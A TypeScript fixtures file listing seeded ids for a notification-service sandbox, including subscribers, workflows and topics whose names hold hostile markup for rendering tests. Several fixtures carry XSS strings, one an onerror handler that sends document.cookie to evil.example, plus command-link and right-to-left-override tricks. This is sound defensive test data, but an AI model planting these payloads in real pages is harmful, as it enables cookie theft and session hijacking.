// Ids of the well-known seeded records. They do not depend on the seed or the subscriber count, so
// tests and demos can name them directly.

export const SANDBOX_FIXTURES = {
  /** The organization every record belongs to. */
  organizationId: '6615c0ffee0000000000a000',
  /** The environment of the sandbox API key (name "Development"). */
  developmentEnvironmentId: '6615c0ffee0000000000d001',
  /** A second environment (name "Production"); some integrations live there. */
  productionEnvironmentId: '6615c0ffee0000000000d002',

  /** Subscriber whose firstName is an HTML injection attempt. */
  htmlNameSubscriberId: 'sbx-html-name',
  htmlName: '<img src=x onerror=alert(1)>',
  /**
   * Subscriber whose names hold markdown, HTML, icon and link syntax, escapes, emoji and
   * right-to-left text: every screen must show them exactly as typed.
   */
  markupSubscriberId: 'sbx-markup',
  markupFirstName: 'a-b (c) [d]! *e* _f_ \\g `h` <b>i</b> & $(alert)',
  markupLastName: '![img](https://img.example/x.png) [link](https://evil.example) 🚀 שלום',
  /**
   * A workflow whose name, tag and step issue hold HTML, markdown, icon and link syntax, bare URLs,
   * a `command:` link and right-to-left text (only with the sandbox option `markupWorkflow`).
   */
  markupWorkflowIdentifier: 'markup-workflow',
  markupWorkflowName:
    'Invoice <img src=https://img.example/act-wf-img onerror="fetch(\'https://evil.example/?c=\'+document.cookie)"> & <b>due</b> **now** $(alert) [open](command:workbench.action.quit) [link](https://evil.example) www.evil.example `code` שלום',
  markupWorkflowTag: '<b>vip</b> $(bell)',
  markupStepIssue: 'Subject <i>is</i> *required* $(error) [fix](https://evil.example)',
  /** Subscriber with no firstName/lastName (only an email). */
  noNameSubscriberId: 'sbx-no-name',
  /** Subscriber with non-ASCII names, email and data. */
  unicodeSubscriberId: 'sbx-unicode',
  /** Subscriber with explicit global and per-workflow preferences and an enabled weekly schedule. */
  preferencesSubscriberId: 'sbx-scheduled',
  /** Subscriber that receives every fixture notification (Alice Sandbox, alice@sandbox.example). */
  notificationSubscriberId: 'sbx-alice',
  notificationSubscriberEmail: 'alice@sandbox.example',

  /** The critical workflow (preferences cannot be changed; hidden from nonCritical preference reads). */
  criticalWorkflowId: '6615c0ffee00000000f10002',
  criticalWorkflowIdentifier: 'password-reset',
  /** An ordinary workflow with in_app and email steps. */
  workflowId: '6615c0ffee00000000f10001',
  workflowIdentifier: 'welcome-onboarding',
  /** The digest workflow (digest, in_app, email). */
  digestWorkflowIdentifier: 'weekly-digest',
  /** A workflow that forces one channel (source `workflowOverride`). */
  forcedChannelWorkflowIdentifier: 'billing-receipt',

  /** Email integration whose credentials carry secret values, as older servers sent them. */
  legacyCredentialsIntegrationId: '6615c0ffee00000000e10008',
  /** Email integration with conditions. */
  conditionsIntegrationId: '6615c0ffee00000000e10003',
  /** `kind: "agent"` integration without a channel. */
  agentIntegrationId: '6615c0ffee00000000e10007',
  /** Primary email integration in Development. */
  primaryEmailIntegrationId: '6615c0ffee00000000e10002',
  /** An integration of the Production environment. */
  productionIntegrationId: '6615c0ffee00000000e10010',

  /** Failed email (JSON raw), failed sms (plain-text raw), failed push (raw null), a skipped chat with step filters, email variants. */
  failedNotificationId: '6620aa0000000000000a0001',
  /** transactionId of the failed notification. */
  failedTransactionId: 'txn-sbx-failed-0001',
  /** topicKey of the failed notification. */
  failedTopicKey: 'sandbox-team',
  /** Regular digest (backoff, digestKey, events), all jobs completed. */
  digestNotificationId: '6620aa0000000000000a0002',
  /** Timed digest (atTime, weekDays, monthDays, ordinal, ordinalValue, monthlyType, cronExpression), still delayed. */
  timedDigestNotificationId: '6620aa0000000000000a0003',
  /** Its digest job is `merged`; `_digestedNotificationId` points at digestNotificationId. */
  mergedNotificationId: '6620aa0000000000000a0004',
  /** A delay step still `delayed`, followed by a pending email. */
  delayedNotificationId: '6620aa0000000000000a0005',
  /** Jobs pending, queued and running (throttle, custom, http_request steps too). */
  inProgressNotificationId: '6620aa0000000000000a0006',
  /** 320 jobs with execution details (a large body). */
  bigNotificationId: '6620aa0000000000000a0007',
  bigNotificationJobCount: 320,
  /** Canceled delay and email jobs. */
  canceledNotificationId: '6620aa0000000000000a0008',
  /** Failed, merged and digest jobs in one record, for the subscriber whose name looks like HTML; a failed detail and raw text with markup. */
  mixedNotificationId: '6620aa0000000000000a000a',
  /** A notification of the critical workflow (severity high, critical true). */
  criticalNotificationId: '6620aa0000000000000a0009',

  // --- Environments' application identifiers and in-app integrations (contract §13) ---
  /** `identifier` of Development in `GET /v1/environments`: the Inbox's `applicationIdentifier`. */
  developmentApplicationIdentifier: 'sbxDevAppId001',
  /** `identifier` of Production in `GET /v1/environments`. */
  productionApplicationIdentifier: 'sbxProdAppId01',
  /** Development's Novu in-app integration: `credentials.hmac` off. */
  developmentInAppIntegrationId: '6615c0ffee00000000e10001',
  /** Production's Novu in-app integration: `credentials: { hmac: true }`. */
  productionInAppIntegrationId: '6615c0ffee00000000e10011',

  // --- Contexts (contract §12) ---
  /** `tenant:acme`, data `{ name: 'Acme Corp', plan: 'enterprise', region: 'eu' }`. */
  acmeContextKey: 'tenant:acme',
  /** `tenant:globex`, data `{ name: 'Globex', plan: 'free', region: 'us' }`. */
  globexContextKey: 'tenant:globex',
  /** `app:dashboard`, data `{ name: 'Dashboard' }`. */
  dashboardContextKey: 'app:dashboard',

  // --- Topics (contract §11) ---
  /**
   * "Product updates": a subscription for every reason a send of system-maintenance can miss
   * someone (see docs/sandbox.md): sbx-alice reached, sbx-unicode by a payload condition,
   * sbx-scheduled by a subscriber-data condition, sbx-no-name disabled, sbx-html-name in tenant:acme
   * (which counts only with the option `contextPreferences`); acct-7 and user_000009 plain, like sbx-alice.
   */
  productUpdatesTopicKey: 'product-updates',
  productUpdatesTopicId: '6615c0ffee0000000070a004',
  /** "Sandbox team" (the failed notification's topic, failedTopicKey) has its `_id` too. */
  teamTopicId: '6615c0ffee0000000070a001',
  /** A topic without subscriptions. */
  emptyTopicKey: 'project-zephyr',
  /** The workflow the topic conditions are about. */
  topicWorkflowIdentifier: 'system-maintenance',
  /** The past send to product-updates (payload region "us", no context): it reached sbx-alice, acct-7 and user_000009. */
  topicSendTransactionId: 'txn-sbx-topic-0001',
  /** Its run for sbx-alice. */
  topicSendNotificationId: '6620aa0000000000000b0001',
  /** The topic the sandbox option `topicSubscriptions` fills. */
  loadTestTopicKey: 'load-test',

  // --- Runs in a context (sbx-alice; every other seeded run has none) ---
  acmeNotificationId: '6620aa0000000000000b0020',
  acmeTransactionId: 'txn-sbx-acme-0001',
  globexNotificationId: '6620aa0000000000000b0021',
  globexTransactionId: 'txn-sbx-globex-0001',
  /** Two keys: tenant:acme and app:dashboard. */
  acmeDashboardNotificationId: '6620aa0000000000000b0022',
  acmeDashboardTransactionId: 'txn-sbx-acme-dashboard-0001',

  // --- sbx-alice's Inbox (contract §13): the well-known messages, each from its own seeded run ---
  /** Unread and unseen, no context, severity none. */
  inboxUnseenMessageId: '6620aa00ab000000000b0010',
  /** Seen, not read, severity medium. */
  inboxSeenMessageId: '6620aa00ab000000000b0011',
  /** Read, severity low. */
  inboxReadMessageId: '6620aa00ab000000000b0012',
  /** Archived (and read). */
  inboxArchivedMessageId: '6620aa00ab000000000b0013',
  /** Snoozed until two days after the seed's end. */
  inboxSnoozedMessageId: '6620aa00ab000000000b0014',
  /** Primary action completed, secondary not; severity high. */
  inboxActionsMessageId: '6620aa00ab000000000b0015',
  /** With `redirect.url`, tags collaboration and mentions, and `data`. */
  inboxRedirectMessageId: '6620aa00ab000000000b0016',
  /** Deleted: never listed. */
  inboxDeletedMessageId: '6620aa00ab000000000b0019',
  /** In tenant:acme (acmeNotificationId's message). */
  inboxAcmeMessageId: '6620aa00ab000000000b0020',
  /** In tenant:globex. */
  inboxGlobexMessageId: '6620aa00ab000000000b0021',
  /** In tenant:acme and app:dashboard. */
  inboxAcmeDashboardMessageId: '6620aa00ab000000000b0022',

  // --- Hostile text (sandbox option `markupTopics`) ---
  markupTopicKey: 'markup-topic',
  markupTopicName:
    '<img src=x onerror=alert(1)> **Launch** $(rocket) [open](command:workbench.action.quit) \u202Egnp.exe <b>news</b>',
  /** Its data holds markup and is exactly 64 KB as JSON (the limit). */
  markupContextKey: 'tenant:markup-co',
  markupInboxMessageId: '6620aa00ab000000000b0030',
} as const;

export type SandboxFixtures = typeof SANDBOX_FIXTURES;
